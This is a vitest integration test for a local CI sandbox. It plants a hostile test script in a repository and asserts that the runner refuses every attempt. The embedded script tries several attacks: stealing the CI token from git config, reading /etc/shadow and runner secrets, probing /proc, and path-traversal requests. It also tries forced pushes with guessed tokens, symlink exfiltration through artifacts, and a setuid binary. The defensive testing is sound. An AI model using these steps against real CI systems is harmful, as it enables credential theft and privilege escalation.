/** A product that was promoted by a person and attacks from the repository's own checks: the whole of local mode, as `npm start` starts it. */
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, readFile, realpath, rm, stat, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { execa } from 'execa';
import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { z } from 'zod';
import { newToken } from '../../src/cli/local-options.ts';
import { demoScript } from '../../src/demo/demo-material.ts';
import { type LocalMode, startLocalMode } from '../../src/local-mode/local-mode.ts';
import { writeSetup } from '../../src/settings/setup-files.ts';
import { eventually } from '../eventually.ts';
import { listening } from '../listening.ts';
import { git, octokit } from '../local/server.ts';
import { layDatabase } from '../prepared.ts';

const HERE = { owner: 'acme', repo: 'shop' };
const CANARY = 'canary-of-the-host-4711';

const CI = `name: ci
on:
  push:
    branches: ['loopwright/**']
permissions:
  contents: read
  actions: write
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@v7
      - run: npm test
      - uses: actions/checkout@v7
        with: { path: again }
      - uses: actions/upload-artifact@v7
        with: { path: loot }
      - run: cat loot/* ; cat "$GITHUB_STEP_SUMMARY"
`;

let root: string;
let data: string;
let home: string;
let local: LocalMode;
let neighbour: Server;
let asked = 0;
let token: string;
let main: string;
let log: string;

beforeAll(async () => {
  root = await realpath(await mkdtemp(join(tmpdir(), 'loopwright-hostile-')));
  [data, home] = [join(root, 'data'), join(root, 'home')];
  await mkdir(home);
  await writeFile(join(home, 'key'), CANARY);
  await layDatabase(join(data, 'database'));
  const shop = join(root, 'shop');
  await mkdir(join(shop, '.github', 'workflows'), { recursive: true });
  await writeFile(join(shop, '.github', 'workflows', 'ci.yml'), CI);
  await writeFile(join(shop, 'package.json'), '{"scripts":{"test":"node attack.cjs"}}');
  await writeFile(join(shop, 'attack.cjs'), 'console.log("harmless")');
  await writeSetup(shop, { force: false });
  await git(shop, ['init', '--quiet', '--initial-branch', 'main']);
  await git(shop, ['add', '.']);
  await git(shop, ['commit', '--quiet', '--message', 'Open the shop']);
  main = (await git(shop, ['rev-parse', 'HEAD'])).stdout;
  neighbour = createServer((_request, response) => {
    asked += 1;
    response.end(CANARY);
  });
  const neighbourUrl = await listening(neighbour);
  token = newToken();
  local = await startLocalMode({
    dataDirectory: data,
    port: 0,
    imports: [{ path: shop, fullName: 'acme/shop' }],
    users: [{ login: 'maria', role: 'admin', token }],
    model: { baseUrl: undefined, name: undefined, apiKey: undefined, price: undefined },
    isDemo: false,
    script: demoScript(),
    log: pino({ level: 'silent' }),
  });
  await writeFile(join(shop, 'attack.cjs'), attack({ neighbourUrl }));
  await git(shop, ['commit', '--quiet', '--all', '--message', 'Sell tea']);
  const remote = `${local.githubUrl.replace('://', `://maria:${token}@`)}/acme/shop.git`;
  // What promotion does: the branch of the loop moves to what was built.
  await git(shop, ['push', '--quiet', remote, 'HEAD:refs/heads/loopwright/1']);
  log = await logOfRun();
});
afterAll(async () => {
  await local.close();
  neighbour.close();
  await rm(root, { recursive: true, force: true });
});

const maria = () => octokit(local.githubUrl, token).rest;

async function logOfRun(): Promise<string> {
  const ended = async () => {
    const { data: found } = await maria().actions.listWorkflowRunsForRepo(HERE);
    return found.workflow_runs.find(({ name, status }) => name === 'ci' && status === 'completed');
  };
  await eventually(async () => (await ended()) !== undefined, 'the checks have ended', 600_000);
  const run = await ended();
  if (run === undefined) throw new Error('the run is gone');
  const { data: jobs } = await maria().actions.listJobsForWorkflowRun({ ...HERE, run_id: run.id });
  const [job] = jobs.jobs;
  if (job === undefined) throw new Error(`the run has no job: ${JSON.stringify(run)}`);
  const { data: text } = await maria().actions.downloadJobLogsForWorkflowRun({ ...HERE, job_id: job.id });
  return z.string().parse(text);
}

/** Tries everything that its author could think of, and says how each ended. */
function attack({ neighbourUrl }: { readonly neighbourUrl: string }): string {
  const place = { root, data, home, neighbourUrl, app: local.appUrl, github: local.githubUrl, main };
  return `const place = ${JSON.stringify(place)};
const fs = require('node:fs'), path = require('node:path'), { execFileSync, spawn } = require('node:child_process');
const told = (name, outcome) => console.log('ATTACK ' + name + ': ' + outcome);
const attempt = async (name, deed) => { try { told(name, await deed()); } catch (error) { told(name, 'refused, ' + String(error.message).split('\\n')[0]); } };
const sh = (...argv) => execFileSync(argv[0], argv.slice(1), { encoding: 'utf8', stdio: 'pipe' });
const header = sh('git', 'config', '--get-regexp', 'extraheader').trim().split(' ').slice(1).join(' ').replace('AUTHORIZATION: ', '');
const own = Buffer.from(header.replace('basic ', ''), 'base64').toString().split(':')[1];
const api = (method, route, body, authorization = 'Bearer ' + own) =>
  fetch(place.github + '/api/v3' + route, { method, headers: authorization ? { authorization } : {}, ...(body ? { body: JSON.stringify(body) } : {}) }).then((answer) => answer.status);
const files = [place.home + '/key', place.data + '/access.json', place.data + '/served.json', place.data + '/github/app.json', place.data + '/github/state.sqlite', place.data + '/github/runner-secret', '/etc/shadow', '/root/.bashrc', '/proc/' + process.ppid + '/cwd/../../../../app.json'];
(async () => {
  await attempt('own repository', () => api('GET', '/repos/acme/shop'));
  for (const file of files) await attempt('read ' + file, () => 'got ' + fs.readFileSync(file).length);
  await attempt('list data', () => [place.data, place.data + '/runner', place.data + '/runner/work'].map((folder) => fs.readdirSync(folder).length).join());
  await attempt('list github', () => fs.readdirSync(place.data + '/github').length);
  await attempt('variables of the first process', () => fs.readFileSync('/proc/1/environ', 'utf8').split('\\0').map((line) => line.split('=')[0]).join());
  await attempt('processes', () => 'saw ' + fs.readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name)).map((id) => { try { return fs.readFileSync('/proc/' + id + '/cmdline', 'utf8'); } catch { return ''; } }).filter((line) => /local-github|src.local.main|vitest/.test(line)).length);
  for (const way of ['/_local/users', '/%5Flocal/users', '/x/../_local/users', '//_local/users', '/_local/requests', '/_local/apps', '/_local/enter/x', '/_services/runner/job/artifacts', '/'])
    await attempt('ask ' + way, () => fetch(place.github + way).then(async (answer) => answer.status + ' ' + (await answer.text()).includes('maria')));
  await attempt('neighbour', () => fetch(place.neighbourUrl).then((answer) => answer.text()));
  await attempt('app', () => fetch(place.app + '/healthz').then((answer) => 'got ' + answer.status));
  const guesses = ['Bearer maria-token', 'Bearer maria', '', 'Bearer ' + own, 'basic ' + Buffer.from('maria:maria-token').toString('base64')];
  const sha = sh('git', 'rev-parse', 'HEAD').trim();
  for (const guess of guesses) {
    await attempt('ref', () => api('PATCH', '/repos/acme/shop/git/refs/heads/main', { sha, force: true }, guess));
    await attempt('file', () => api('PUT', '/repos/acme/shop/contents/x', { message: 'x', content: 'eA==', branch: 'main' }, guess));
    await attempt('merge', () => api('POST', '/repos/acme/shop/merges', { base: 'main', head: sha }, guess));
  }
  const url = place.github + '/acme/shop.git';
  await attempt('push', () => sh('git', 'push', '--force', url, 'HEAD:main'));
  await attempt('push as nobody', () => sh('git', '-c', 'http.extraheader=', 'push', '--force', url.replace('://', '://maria:maria-token@'), 'HEAD:main'));
  await attempt('push to the disk', () => sh('git', 'push', '--force', place.data + '/github/git/acme/shop.git', 'HEAD:main'));
  const inputs = { app: place.github, job: 'x', brief: 'x', loop: 'x', entry: '1', phase: 'BUILD', base: sha, candidate: sha, model: '' };
  await attempt('dispatch', () => api('POST', '/repos/acme/shop/actions/workflows/loopwright-build.yml/dispatches', { ref: 'main', inputs }));
  fs.mkdirSync('loot');
  fs.symlinkSync(place.home + '/key', 'loot/key');
  for (const name of ['GITHUB_STEP_SUMMARY', 'GITHUB_OUTPUT']) { fs.rmSync(process.env[name]); fs.symlinkSync(place.home + '/key', process.env[name]); }
  fs.symlinkSync(place.home, 'again');
  await attempt('leave a set-id file', () => { fs.copyFileSync(process.execPath, 'tool'); fs.chmodSync('tool', 0o4755); return 'made'; });
  spawn('sh', ['-c', 'sleep 3; touch ' + place.home + '/late'], { detached: true, stdio: 'ignore' }).unref();
  await attempt('write home', () => { fs.writeFileSync(place.home + '/planted', 'x'); return 'written'; });
  console.log('ATTACK over');
})();
`;
}

/** How the attacks whose names begin so ended. */
function ended(name: string): readonly string[] {
  return log
    .split('\n')
    .flatMap((line) => / ?ATTACK (.*)$/.exec(line)?.[1] ?? [])
    .filter((line) => line.startsWith(name))
    .map((line) => line.slice(line.indexOf(': ') + 2));
}

describe('a hostile product in the checks of its own repository', () => {
  test('runs, reads its own repository and comes to its end', () => {
    expect(log).toContain('ATTACK over');
    expect(ended('own repository')).toEqual(['200']);
  });

  test('reads nothing of the home, the data directory or other processes', () => {
    const ends = ended('read ');
    expect(ends).toHaveLength(9);
    expect(ends.filter((end) => !end.startsWith('refused'))).toEqual([]);
    // Only the way to its own folder is there.
    expect(ended('list data')).toEqual(['1,1,1']);
    expect(ended('list github')).toEqual([expect.stringContaining('refused')]);
    expect(ended('processes')).toEqual(['saw 0']);
    expect(ended('variables of the first')).toEqual(['PATH,']);
    expect(log).not.toContain(CANARY);
    expect(log).not.toContain(token);
    expect(log).not.toContain(local.key);
  });

  test('finds nothing under /_local, no page, no neighbour and no App', () => {
    const asks = ended('ask ');
    expect(asks).toHaveLength(9);
    expect(asks.filter((end) => !end.startsWith('404 false'))).toEqual([]);
    expect(ended('neighbour')).toEqual([expect.stringContaining('refused')]);
    expect(ended('app')).toEqual([expect.stringContaining('refused')]);
    expect(asked).toBe(0);
  });

  test('does not move main by any way', async () => {
    const ways = ['ref', 'file', 'merge'].flatMap(ended);
    expect(ways).toHaveLength(15);
    expect(ways.filter((end) => !/^(401|403|404)$/.test(end))).toEqual([]);
    const pushes = ended('push');
    expect(pushes).toHaveLength(3);
    expect(pushes.filter((end) => !end.startsWith('refused'))).toEqual([]);
    expect((await maria().repos.getBranch({ ...HERE, branch: 'main' })).data.commit.sha).toBe(main);
  });

  test("does not get the App's own workflow, which runs outside, to work for it", async () => {
    const { data: found } = await maria().actions.listWorkflowRunsForRepo(HERE);
    for (const run of found.workflow_runs.filter(({ name }) => name !== 'ci'))
      expect([run.actor?.login, run.conclusion]).not.toEqual(['loopwright[bot]', 'success']);
  });

  test('leaves nothing on the machine: no file, no link that is followed, no set-id file, no process', async () => {
    expect(await readdir(home)).toEqual(['key']);
    expect(ended('write home')).toEqual([expect.stringContaining('refused')]);
    expect(ended('leave a set-id file')).toEqual([expect.stringContaining('refused')]);
    expect(existsSync(join(home, '.git'))).toBe(false);
    const found = await execa('find', [data, '-perm', '/6000', '-type', 'f']);
    expect(found.stdout).toBe('');
    expect((await execa('pgrep', ['-f', `touch ${home}/late`], { reject: false })).stdout).toBe('');
  });

  test('no token of a person is in the list of processes, and files with tokens are for their owner alone', async () => {
    const { stdout } = await execa('ps', ['-eo', 'args']);
    expect(stdout).not.toContain(token);
    expect(stdout).not.toContain(local.key);
    const files = ['access.json', 'served.json', 'github/app.json', 'github/state.sqlite', 'github/state.sqlite-wal'];
    files.push('github/runner-secret', 'runner');
    for (const name of files) expect([name, (await stat(join(data, name))).mode & 0o077]).toEqual([name, 0]);
    expect(await readFile(join(data, 'access.json'), 'utf8')).toContain(token);
  });
});
